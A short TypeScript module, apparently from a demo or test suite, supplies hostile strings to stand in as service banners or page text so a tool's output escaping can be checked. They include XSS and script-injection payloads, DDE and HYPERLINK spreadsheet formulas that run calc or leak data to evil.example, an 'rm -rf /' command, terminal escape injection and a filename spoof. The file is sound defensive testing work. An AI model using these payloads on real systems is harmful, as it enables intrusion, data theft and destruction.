/**
 * What attackers write into a banner or a page in the hope that some tool runs it. The demo serves
 * it as the real service would, because whoever shows a finding has to show it as text.
 */
const hostileTexts: readonly string[] = [
  '220 <img src=x onerror=alert(document.domain)> ready',
  '[click to fix](command:workbench.action.quit)',
  '\u001b[2J\u001b[1;31mroot@localhost:~#\u001b[0m \u0007',
  "=cmd|' /C calc'!A0",
  'invoice\u202Efdp.exe',
  '"><script src=//evil.example/x.js></script>',
  '+HYPERLINK("http://evil.example/?leak="&A1,"open"), "quoted", and\r\na second line',
  '$(warning) **urgent** ![](https://evil.example/pixel.png) `rm -rf /`',
  `SSH-2.0-${'A'.repeat(1500)}`,
  '{{constructor.constructor("return process")()}} ${7*7} %n%n%s \\x00\\x1b',
];

const every = 19;

/**
 * One of the hostile texts for every 19th entry, `undefined` for the others.
 * @param index place of the entry; lists start at different ones, or all would begin alike.
 */
export function hostileText(index: number): string | undefined {
  const turn = index / every;
  return Number.isInteger(turn) ? hostileTexts[turn % hostileTexts.length] : undefined;
}
